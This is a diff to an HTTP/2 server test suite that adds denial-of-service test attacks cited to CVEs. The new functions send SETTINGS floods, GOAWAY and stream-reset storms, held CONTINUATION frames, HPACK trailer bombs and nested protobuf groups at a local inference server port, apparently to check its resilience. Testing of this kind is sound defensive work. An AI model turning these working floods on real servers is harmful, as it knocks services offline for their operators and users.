@@ -8,6 +8,7 @@ runs one in a process of its own, so that who measures meanwhile shares no inter
 from __future__ import annotations
 
 import gzip
+import itertools
 import socket
 import ssl
 import struct
@@ -22,6 +23,7 @@ from tests.integration.http2 import (
     DATA,
     END_HEADERS,
     END_STREAM,
+    GOAWAY,
     HEADERS,
     INITIAL_WINDOW_SIZE,
     PING,
@@ -35,6 +37,8 @@ from tests.integration.http2 import (
 )
 
 PRIORITY, CONTINUATION, UNKNOWN = 2, 9, 200
+HEADER_TABLE_SIZE = 1
+LITERAL = b"\0\x01x\x01y"
 INFER, STREAM = "ModelInfer", "ModelStreamInfer"
 LARGE = 30 << 20  # of a message, with room to the limit that the tests set
 CHUNK = 16384
@@ -95,6 +99,43 @@ def settings(port: int, on: Callable[[], bool]) -> None:
 
 
 @attack
+def large_settings(port: int, on: Callable[[], bool]) -> None:
+    """CVE-2020-11080: as many in a frame as it holds. CVE-2025-1948: a table of 4 GB."""
+    flood(port, on, frame(SETTINGS, 0, 0, struct.pack(">HI", HEADER_TABLE_SIZE, (1 << 32) - 1) * (CHUNK // 6)))
+
+
+def many_streams(client: RawClient) -> None:
+    client.socket.sendall(
+        b"".join(frame(HEADERS, END_HEADERS, stream, header_block(INFER)) for stream in range(1, 20_000, 2))
+    )
+
+
+@attack
+def settings_of_many_streams(port: int, on: Callable[[], bool]) -> None:
+    """Each changes the windows of 10,000 streams."""
+
+    def once(client: RawClient) -> None:
+        many_streams(client)
+        windows = [frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, size)) for size in (1, 65535)]
+        while on():
+            client.socket.sendall(b"".join(windows) * 20)
+
+    again(port, on, once)
+
+
+@attack
+def goodbyes(port: int, on: Callable[[], bool]) -> None:
+    """For each the server looks which of 10,000 streams are not to come."""
+
+    def once(client: RawClient) -> None:
+        many_streams(client)
+        while on():
+            client.socket.sendall(frame(GOAWAY, 0, 0, bytes(8)) * 40)
+
+    again(port, on, once)
+
+
+@attack
 def priorities(port: int, on: Callable[[], bool]) -> None:
     """CVE-2019-9513."""
     flood(port, on, frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") + frame(PRIORITY, 0, 3, b"\0\0\0\1\x20"))
@@ -142,6 +183,96 @@ def forced_resets(port: int, on: Callable[[], bool]) -> None:
             client.socket.sendall(burst)
 
     again(port, on, once)
+
+
+@attack
+def made_you_reset(port: int, on: Callable[[], bool]) -> None:
+    """CVE-2025-8671 and CVE-2019-9514: what else makes a server reset a stream, behind a request that is whole."""
+    block = header_block("ServerMetadata")
+    wrong = (
+        frame(WINDOW_UPDATE, 0, 0, bytes(4)),
+        frame(PRIORITY, 0, 0, bytes(4)),
+        frame(PRIORITY, 0, 0, b"\0\0\0\0\x10"),
+        frame(HEADERS, END_HEADERS | END_STREAM, 0, header_block("ServerMetadata")),
+        frame(DATA, END_STREAM, 0, bytes(10)),
+    )
+
+    def of(stream: int, one: bytes) -> bytes:
+        payload = struct.pack(">I", stream) + b"\x10" if one[3] == PRIORITY and len(one) == 14 else one[9:]
+        return frame(one[3], one[4], stream, payload)
+
+    def once(client: RawClient) -> None:
+        kind = next(kinds)
+        stream = 1
+        while on():
+            burst = b"".join(
+                frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, message(b"")) + of(s, wrong[kind])
+                for s in range(stream, stream + 200, 2)
+            )
+            stream += 200
+            client.socket.sendall(burst)
+
+    kinds = itertools.cycle(range(len(wrong)))
+    again(port, on, once)
+
+
+@attack
+def malformed_requests(port: int, on: Callable[[], bool]) -> None:
+    """CVE-2019-9514: headers that no request may have, so that each is answered with a reset."""
+
+    def once(client: RawClient) -> None:
+        stream = 1
+        while on():
+            block = header_block(INFER) + b"\0\x01X\x01y"  # an upper-case name
+            client.socket.sendall(
+                b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, block) for s in range(stream, stream + 400, 2))
+            )
+            stream += 400
+
+    again(port, on, once)
+
+
+@attack
+def resets_and_goodbyes(port: int, on: Callable[[], bool]) -> None:
+    """CVE-2023-35945: a reset, a goodbye and the connection's end, whose bookkeeping must not stay."""
+
+    def once(client: RawClient) -> None:
+        burst = b"".join(
+            frame(HEADERS, END_HEADERS, s, header_block(INFER)) + frame(RST_STREAM, 0, s, b"\0\0\0\x08")
+            for s in range(1, 200, 2)
+        )
+        client.socket.sendall(burst + frame(GOAWAY, 0, 0, bytes(8)))
+
+    again(port, on, once)
+
+
+@attack
+def half_headers_and_gone(port: int, on: Callable[[], bool]) -> None:
+    """CVE-2024-27983: the connection ends amid headers."""
+
+    def once(client: RawClient) -> None:
+        client.socket.sendall(frame(HEADERS, 0, 1, header_block(INFER)) + frame(CONTINUATION, 0, 1, LITERAL * 100))
+        client.reset()
+
+    again(port, on, once)
+
+
+@attack
+def half_headers(port: int, on: Callable[[], bool]) -> None:
+    """Each connection leaves 60 KB of a header waiting for its end."""
+    value = b"\0\x01x" + b"\x7f\xe1\xd3\x03" + bytes(60_000)
+    held: list[RawClient] = []
+    while on():
+        if len(held) >= 2000:
+            time.sleep(0.1)
+            continue
+        with suppress(OSError):
+            held.append(RawClient(port))
+            held[-1].socket.settimeout(1)
+            block = header_block(INFER) + value
+            held[-1].socket.sendall(frame(HEADERS, 0, 1, block[:CHUNK]))
+            for at in range(CHUNK, len(block), CHUNK):
+                held[-1].socket.sendall(frame(CONTINUATION, 0, 1, block[at : at + CHUNK]))
 
 
 @attack
@@ -198,6 +329,23 @@ def long_header_lists(port: int, on: Callable[[], bool]) -> None:
     again(port, on, once)
 
 
+@attack
+def long_trailers(port: int, on: Callable[[], bool]) -> None:
+    """16 KB that unfold to megabytes, behind a request instead of before it."""
+
+    def once(client: RawClient) -> None:
+        entry = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"y" * 4000
+        stream = 1
+        while on():
+            client.socket.sendall(
+                frame(HEADERS, END_HEADERS, stream, header_block(INFER) + (entry if stream == 1 else b""))
+                + frame(HEADERS, END_HEADERS | END_STREAM, stream, b"\xbe" * 16_000)
+            )
+            stream += 2
+
+    again(port, on, once)
+
+
 def whole_message(port: int, on: Callable[[], bool], content: bytes, coded: bool = False) -> None:
     """A right stream with a wrong message."""
 
@@ -244,6 +392,12 @@ def empty_inputs(port: int, on: Callable[[], bool]) -> None:
 @attack
 def empty_outputs(port: int, on: Callable[[], bool]) -> None:
     whole_message(port, on, b"\x32\x00" * (LARGE // 2))
+
+
+@attack
+def nested_groups(port: int, on: Callable[[], bool]) -> None:
+    """CVE-2024-7254, CVE-2022-1941: unknown fields within unknown fields."""
+    whole_message(port, on, b"\xa3\x06" * (LARGE // 2))
 
 
 @attack
